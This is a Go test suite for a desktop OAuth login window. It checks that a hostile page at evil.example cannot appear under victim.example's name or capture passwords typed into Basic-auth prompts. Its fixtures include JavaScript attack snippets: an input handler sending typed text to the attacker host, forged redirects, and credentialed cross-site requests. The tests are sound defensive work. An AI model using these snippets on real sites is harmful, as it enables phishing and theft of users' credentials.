//go:build cgo

package loginwindow_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"wails-openid-oauth/auth/loginwindow/internal/gtkloop"
)

const (
	evilPage   = "title: evil.example — Log in\nhttps://evil.example\nCancel\n[page]\n"
	victimAsks = "“victim.example” asks for your password"
)

// newForgery is a log-in at evil.example, whose page runs the script. victim.example has a page that never arrives, one
// without content, and one behind a password.
func newForgery(t *testing.T, script string) *hosts {
	t.Helper()
	b := newBench(t)
	h := newHosts(b, "evil.example", "victim.example")
	b.page("evil.example/login", `<input autofocus oninput="fetch('/typed?' + this.value)">
		<script>
			function later(f) { setTimeout(() => { f(); document.title = 'end' }, 1000) }
			function frame(src) { setTimeout(() => document.body.innerHTML = '<iframe src="' + src + '"></iframe>', 500); later(() => 0) }
			onload = () => setTimeout(() => { `+script+` })
		</script>`)
	b.mux.HandleFunc("evil.example/to/{page}", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://victim.example/"+r.PathValue("page"), http.StatusFound)
	})
	never := make(chan bool)
	b.Cleanup(func() { close(never) })
	b.mux.HandleFunc("victim.example/never", func(http.ResponseWriter, *http.Request) { <-never })
	b.mux.HandleFunc("victim.example/empty", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
	b.mux.HandleFunc("victim.example/secret", behindPassword("secret of the victim"))
	b.mux.HandleFunc("evil.example/secret", behindPassword("secret of the page"))
	return h
}

func behindPassword(text string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if user, password, _ := r.BasicAuth(); user != "ann" || password != "pw" {
			w.Header().Set("WWW-Authenticate", `Basic realm="the realm is free text"`)
			w.WriteHeader(http.StatusUnauthorized)
		}
		fmt.Fprint(w, text)
	}
}

// watch looks at the windows until the returned function is called. No page of the victim is loaded meanwhile, so that
// function fails the test if any page was seen under the victim's name.
func (h *hosts) watch() func() { return h.watchFor("victim.example") }

func (h *hosts) watchFor(victim string) func() {
	stop, done := make(chan bool), make(chan string, 1)
	go func() {
		forged := ""
		for {
			select {
			case <-stop:
				done <- forged
				return
			default:
			}
			if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") && strings.Contains(seen, victim) {
				forged = seen
			}
			time.Sleep(4 * time.Millisecond) // a quarter of the time of a frame; meanwhile the main loop can work
		}
	}()
	return func() {
		h.Helper()
		close(stop)
		if forged := <-done; forged != "" {
			h.Errorf("a page of another site was seen as:\n%s", forged)
		}
	}
}

// sees waits until the windows show exactly, or contain, the text.
func (h *hosts) sees(text string) {
	h.Helper()
	last := ""
	h.eventually("sight of "+text, func() bool {
		seen := gtkloop.Seen()
		if seen != last {
			last = seen
			fmt.Fprintf(h.log, "seen: %q\n", seen)
		}
		return strings.Contains(seen, text)
	})
}

// enter types into what has the focus, and presses Return.
func (h *hosts) enter(text string) {
	h.Helper()
	h.xdotool("type", text)
	h.xdotool("key", "Return")
}

func (h *hosts) seesNoPage() {
	h.Helper()
	if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") {
		h.Errorf("the page is not covered:\n%s", seen)
	}
}

// start opens the log-in, and returns a function that ends it.
func (h *hosts) start() func() {
	ctx, cancel := context.WithCancel(h.Context())
	done := h.open(ctx, "/login", false)
	return func() {
		h.Helper()
		cancel()
		if got := receive(h.bench, "result", done); !errors.Is(got.err, context.Canceled) {
			h.Errorf("Open: %v", got.err)
		}
	}
}

// A page navigates to a URL from which no document arrives, and stays alive. It must not be seen under that URL's name.
func TestNoPageIsSeenUnderAnothersName(t *testing.T) {
	for name, script := range map[string]string{
		"redirect, stop":                       `location = '/to/never'; later(() => stop())`,
		"straight, stop":                       `location = 'https://victim.example/never'; later(() => stop())`,
		"redirect, no content":                 `location = '/to/empty'; later(() => 0)`,
		"redirect, stays":                      `location = '/to/never'; later(() => 0)`,
		"redirect, blank":                      `location = '/to/never'; later(() => { location = 'about:blank'; fetch('/gone', {keepalive: true}) })`,
		"redirect, write":                      `location = '/to/never'; later(() => { document.open(); document.write('<title>x</title>'); document.close() })`,
		"redirect, push state":                 `location = '/to/never'; later(() => history.pushState(0, '', '/victim'))`,
		"redirect, new load":                   `location = '/to/never'; later(() => { const end = () => location = '/end'; end(); setInterval(end, 5000) })`, // WebKit sometimes drops a navigation
		"redirect, alert":                      `location = '/to/never'; later(() => setTimeout(() => alert('victim'), 500))`,
		"frame behind password":                `frame('https://victim.example/secret')`,
		"image behind password":                `later(() => document.body.innerHTML = '<img src="https://victim.example/secret">')`,
		"fetch behind password":                `fetch('https://victim.example/secret', {credentials: 'include', mode: 'no-cors'}); later(() => 0)`,
		"frame, then the same host":            `location = 'https://victim.example/never'; frame('https://victim.example/secret')`,
		"redirected frame, then the same host": `location = 'https://victim.example/never'; frame('/to/secret')`,
	} {
		t.Run(name, func(t *testing.T) {
			h := newForgery(t, script)
			h.page("evil.example/end", "<script>document.title = 'end'</script>")
			gone := h.signal("evil.example/gone")
			watched := h.watch()
			stop := h.start()
			if strings.Contains(name, "blank") {
				receive(h.bench, "end of the document", gone)
				h.sees("title: about:blank — Log in\nabout:blank\nCancel\n[page]\n\n")
			} else {
				h.sees(evilPage + "end\n")
			}
			watched()
			stop()
		})
	}
}

// A host asks for a password while the window still shows another page. The form covers that page and names the host. If
// the page withdraws the question, it receives nothing of what the user still types.
func TestPasswordFormCoversThePage(t *testing.T) {
	for name, script := range map[string]string{
		"redirect": "location = '/to/secret'",
		"straight": "location = 'https://victim.example/secret'",
	} {
		t.Run(name, func(t *testing.T) {
			h := newForgery(t, script+"; document.onvisibilitychange = () => setTimeout(() => stop(), 2000)")
			typed := h.signal("evil.example/typed")
			watched := h.watch()
			end := h.start()
			h.sees(victimAsks)
			h.seesNoPage()
			h.picture("password-" + name)
			h.onWindow("windowfocus", "--sync")
			h.xdotool("type", "ann")
			h.sees("The password is not asked for any more")
			h.seesNoPage()
			h.picture("withdrawn")
			h.enter("pass word")
			h.seesNoPage()
			h.xdotool("key", "alt+o")
			h.sees(evilPage)
			watched()
			if len(typed) != 0 {
				t.Errorf("the page got %q", <-typed)
			}
			end()
		})
	}
}

// The user cancels the form, or answers it.
func TestPasswordFormAsTheUserSeesIt(t *testing.T) {
	const toVictim = "location = 'https://victim.example/secret'"
	// answer answers the question of the page's own host, and waits for what the page does then.
	answer := func(h *hosts, answered <-chan string) {
		h.Helper()
		h.sees("“evil.example” asks for your password")
		h.seesNoPage()
		h.onWindow("windowfocus", "--sync")
		h.enter("ann\tpw")
		receive(h.bench, "answer", answered)
		h.sees(evilPage)
	}
	t.Run("Escape brings the page back", func(t *testing.T) {
		h := newForgery(t, toVictim)
		end := h.start()
		h.sees(victimAsks)
		h.key("Escape")
		h.sees(evilPage)
		end()
	})
	t.Run("answered", func(t *testing.T) {
		h := newForgery(t, toVictim)
		end := h.start()
		h.sees(victimAsks)
		h.onWindow("windowfocus", "--sync")
		h.enter("ann\twrong")
		h.sees("The name or the password was not right")
		h.seesNoPage()
		h.picture("password-again")
		h.enter("pw") // the name is still there
		h.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
		end()
	})
	t.Run("of the page's own host", func(t *testing.T) {
		h := newForgery(t, "fetch('/secret').then(() => fetch('/end'))")
		answered := h.signal("evil.example/end")
		end := h.start()
		answer(h, answered)
		end()
	})
	// The page and its question come from two processes. The window hears of both at the same time, and has shown neither.
	t.Run("of a page that is not shown yet", func(t *testing.T) {
		h := newForgery(t, "fetch('/secret').then(() => fetch('/end')); setTimeout(() => fetch('/asked'), 500)")
		asked, answered := h.signal("evil.example/asked"), h.signal("evil.example/end")
		release := sync.OnceFunc(gtkloop.HoldAfterResponse())
		defer release()
		end := h.start()
		receive(h.bench, "question", asked)
		release()
		answer(h, answered)
		end()
	})
	t.Run("before any page", func(t *testing.T) {
		h := newForgery(t, "")
		h.origin = "https://victim.example"
		ask, ann := behindPassword("welcome"), make(chan bool, 9)
		h.mux.HandleFunc("victim.example/login", func(w http.ResponseWriter, r *http.Request) {
			if user, _, _ := r.BasicAuth(); user == "ann" {
				ann <- true
			}
			ask(w, r)
		})
		end := h.start()
		h.sees(victimAsks)
		h.key("Escape")
		h.sees("“victim.example” was not opened")
		h.xdotool("key", "Return") // "Try again"
		h.sees(victimAsks)
		h.xdotool("keydown", "Return", "sleep", "0.5", "keyup", "Return") // held down by accident
		h.enter("ann\tpw")
		h.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
		receive(h.bench, "answer of Ann", ann)
		end()
	})
	t.Run("asked too often", func(t *testing.T) {
		h := newForgery(t, "onclick = () => "+toVictim+"; "+toVictim)
		end := h.start()
		asks := func() bool { return strings.Contains(gtkloop.Seen(), victimAsks) }
		refused := func() bool { return strings.Contains(h.log.String(), "password forms") }
		h.sees(victimAsks)
		for range 5 {
			h.clickUntil("password form", asks)
			h.key("Escape")
			h.sees(evilPage)
		}
		h.clickUntil("refusal of a sixth form", refused)
		end()
	})
}
